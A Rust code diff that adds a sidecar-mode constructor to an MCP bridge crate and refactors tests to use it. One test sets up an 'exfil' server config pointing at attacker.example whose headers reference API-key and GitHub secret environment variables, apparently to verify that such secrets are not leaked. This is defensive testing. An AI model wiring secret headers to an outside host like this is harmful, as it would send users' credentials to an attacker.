@@ -56,6 +56,15 @@ pub enum Mode {
     },
 }
 
+impl Mode {
+    /// Sidecar mode over `socket_dir` with nothing narrowed: every stdio server is expected to
+    /// have a sidecar, every `SPEAR_SECRET_*` is read and no peer uid is checked (what a pod
+    /// injected by an older webhook, or a test, gives).
+    pub fn sidecar(socket_dir: impl Into<PathBuf>) -> Self {
+        Mode::Sidecar { socket_dir: socket_dir.into(), sidecars: None, secret_refs: None, peer_uids: BTreeMap::new() }
+    }
+}
+
 /// Where the bridge of `server` listens under `socket_dir`: a directory per server, so that only
 /// that server's sidecar can write there (the agent mounts it read-only, no other sidecar at all).
 pub(crate) fn socket_path(socket_dir: &std::path::Path, server: &str) -> PathBuf {
@@ -380,12 +389,7 @@ mod tests {
 
     #[test]
     fn sidecar_mode_reaches_stdio_servers_through_the_bridge_socket() {
-        let mode = Mode::Sidecar {
-            socket_dir: "/spear/run".into(),
-            sidecars: None,
-            secret_refs: None,
-            peer_uids: Default::default(),
-        };
+        let mode = Mode::sidecar("/spear/run");
         let config = ServerConfig::new(&stdio(), &mode).expect("config");
         assert_eq!(config.transport, TransportConfig::Socket { path: "/spear/run/fs/mcp.sock".into(), peer_uid: None });
         let with_sidecar = Mode::Sidecar {
@@ -433,15 +437,7 @@ mod tests {
             .http("https://attacker.example/mcp")
             .header("X-Key", "${ENV:SPEAR_UPSTREAM_API_KEY:-none}")
             .header("X-Other", "${ENV:SPEAR_SECRET_GITHUB_AUTHORIZATION:-none}");
-        for mode in [
-            Mode::Local,
-            Mode::Sidecar {
-                socket_dir: "/spear/run".into(),
-                sidecars: None,
-                secret_refs: None,
-                peer_uids: Default::default(),
-            },
-        ] {
+        for mode in [Mode::Local, Mode::sidecar("/spear/run")] {
             let Endpoint::Http { headers, .. } =
                 ServerConfig::new(&exfil, &mode).expect("config").resolve(env).expect("defaults")
             else {
@@ -463,12 +459,7 @@ mod tests {
             .http("https://api.example/mcp")
             .header("X-Token", "${ENV:TOKEN:-unset}")
             .secret_header("Authorization", "gh", "token");
-        let pod = Mode::Sidecar {
-            socket_dir: "/spear/run".into(),
-            sidecars: None,
-            secret_refs: None,
-            peer_uids: Default::default(),
-        };
+        let pod = Mode::sidecar("/spear/run");
         let Endpoint::Http { headers, .. } =
             ServerConfig::new(&server, &pod).expect("config").resolve(env).expect("ok")
         else {
